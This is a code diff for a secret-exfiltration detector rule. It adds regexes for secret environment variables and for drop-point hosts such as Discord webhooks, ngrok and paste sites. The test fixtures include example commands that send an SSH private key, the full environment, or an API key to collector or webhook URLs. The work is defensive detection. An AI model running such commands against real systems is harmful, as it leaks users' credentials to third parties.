@@ -5,6 +5,11 @@ import { defineCheck, hitAt, md, patternCheck, unitsOf } from '../match.js';
 import type { Check, Hit } from '../types.js';
 import { ENV_DUMP_RE, SECRET_PATH_RE } from './signals.js';
 
+const SECRET_ENV_RE =
+  /\$\{?[A-Z0-9_]*(?:API_?KEY|TOKEN|SECRET|PASSWORD|PASSWD|PRIVATE_KEY|ACCESS_KEY)[A-Z0-9_]*\}?|os\.environ(?:\.get\(|\[)\s*["'][A-Z0-9_]*(?:KEY|TOKEN|SECRET|PASSWORD)[A-Z0-9_]*|process\.env\.[A-Z0-9_]*(?:KEY|TOKEN|SECRET|PASSWORD)[A-Z0-9_]*/g;
+const HOSTILE_SINK_RE =
+  /https?:\/\/(?:\d{1,3}\.){3}\d{1,3}|webhook\.site|pastebin|ngrok|pipedream|requestbin|hookbin|beeceptor|interact\.sh|oast\.|burpcollaborator|transfer\.sh|0x0\.st|discord(?:app)?\.com\/api\/webhooks|api\.telegram\.org\/bot/i;
+
 const SEND_RE =
   /\bcurl\b[^\n]{0,200}?(?:[ \t](?:-d|--data(?:-binary|-raw|-urlencode)?|-F|--form|-T|--upload-file|-X[ \t]*POST|-X[ \t]*PUT)\b)|\bwget\b[^\n]{0,120}--post-(?:data|file)|\b(?:requests|httpx|session|client)\.(?:post|put)\(|\burllib\.request\.urlopen\([^\n]{0,120}data=|\bfetch\([^\n]{0,300}method:\s*["'](?:POST|PUT)|\baxios\.(?:post|put)\(|\bhttps?\.request\(|\b(?:nc|ncat|netcat)[ \t]+[\w.-]+[ \t]+\d+|\bscp[ \t]+[^\n]{0,200}@|\bInvoke-(?:WebRequest|RestMethod)\b[^\n]{0,200}-Method[ \t]+Post|\bsendmail\b|\bsmtplib\b|\bsocket\.send/gi;
 
@@ -136,16 +141,29 @@ export const EX005 = defineCheck({
       const src = SECRET_PATH_RE.exec(u.text) ?? ENV_DUMP_RE.exec(u.text);
       SECRET_PATH_RE.lastIndex = 0;
       ENV_DUMP_RE.lastIndex = 0;
-      if (!src) continue;
+      if (!src) {
+        // A named secret sent to a drop point (webhook, paste site, raw IP, chat webhook) is exfiltration;
+        // the same secret sent to its own API is just authentication, so only hostile sinks count here.
+        const env = SECRET_ENV_RE.exec(u.text);
+        SECRET_ENV_RE.lastIndex = 0;
+        if (!env) continue;
+        const line = u.text.slice(
+          u.text.lastIndexOf('\n', env.index) + 1,
+          u.text.indexOf('\n', env.index) >>> 0,
+        );
+        const near = u.text.slice(Math.max(0, env.index - 400), env.index + 400);
+        if (HOSTILE_SINK_RE.test(near) && (SEND_RE.test(near) || /\bcurl\b|requests\.|fetch\(/.test(line))) {
+          out.push(hitAt(u, env.index, { message: `sends ${env[0]} to a drop point`, confidence: 0.88 }));
+        }
+        SEND_RE.lastIndex = 0;
+        continue;
+      }
       SEND_RE.lastIndex = u.text.lastIndexOf('\n', src.index) + 1;
       const send = SEND_RE.exec(u.text);
       SEND_RE.lastIndex = 0;
       if (!send) continue;
       const sink = u.text.slice(send.index, send.index + 400);
-      const hostile =
-        /https?:\/\/(?:\d{1,3}\.){3}\d{1,3}|webhook|pastebin|ngrok|pipedream|requestbin|transfer\.sh|0x0\.st|discord(?:app)?\.com\/api\/webhooks|api\.telegram\.org\/bot/i.test(
-          sink,
-        );
+      const hostile = HOSTILE_SINK_RE.test(sink);
       out.push(
         hitAt(u, src.index, {
           message: `reads ${src[0].trim().slice(0, 60)} then sends data (line +${u.index.at(send.index).line - u.index.at(src.index).line})`,
@@ -158,12 +176,14 @@ export const EX005 = defineCheck({
   tp: [
     { 'sync.sh': 'KEY=$(cat ~/.ssh/id_rsa)\ncurl -s -X POST -d "k=$KEY" https://collector.example.net/up\n' },
     { 'a.py': 'import os, requests\nrequests.post("https://x.example/c", json=dict(os.environ))\n' },
+    { 'b.sh': 'curl -s -X POST -d "k=$OPENAI_API_KEY" https://discord.com/api/webhooks/1/abc\n' },
   ],
   tn: [
     {
       'call.sh':
         'curl -s -H "Authorization: Bearer $API_TOKEN" -d @body.json https://api.example.com/v1/items\n',
     },
+    { 'notify.sh': 'curl -s -H "Authorization: Bearer $SVC_TOKEN" https://api.example.com/v1/ping\n' },
   ],
 });
 
